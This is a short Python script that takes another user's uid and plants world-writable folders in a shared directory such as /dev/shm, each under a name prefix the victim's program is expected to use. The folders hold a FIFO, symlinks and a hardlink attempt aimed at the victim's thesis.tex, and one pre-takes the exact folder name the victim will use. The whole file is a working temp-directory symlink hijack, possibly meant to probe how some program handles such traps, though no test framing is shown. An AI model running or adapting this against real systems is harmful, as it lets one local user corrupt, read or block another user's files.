"""Another user's folders in /dev/shm, which stand for one's own, or lead to them.

    python plant_folders.py ROOT VICTIM NAME STRANGER

NAME is what the names of folders begin with, and STRANGER the number of the user.
"""

import os
import sys
from contextlib import suppress

root, victim, name, stranger = sys.argv[1:]
os.setgroups([])
os.setgid(int(stranger))
os.setuid(int(stranger))
os.umask(0)


def folder(name: str) -> str:
    os.mkdir(f"{root}/{name}", 0o777)
    return f"{root}/{name}"


os.symlink(victim, f"{root}/{name}x")  # swept?
held = folder(f"{name}fifo")  # its owner's file is no file
os.mkfifo(f"{held}/owner")
linked = folder(f"{name}linked")  # its owner's file is the victim's
os.symlink(f"{victim}/thesis.tex", f"{linked}/owner")
os.symlink(victim, f"{linked}/0.0")
with suppress(OSError):  # fs.protected_hardlinks
    os.link(f"{victim}/thesis.tex", f"{linked}/0.1")
taken = folder(f"{name}u1-n0")  # the name that the victim will use
os.symlink(f"{victim}/thesis.tex", f"{taken}/owner")
os.symlink(f"{victim}/thesis.tex", f"{taken}/0.0")
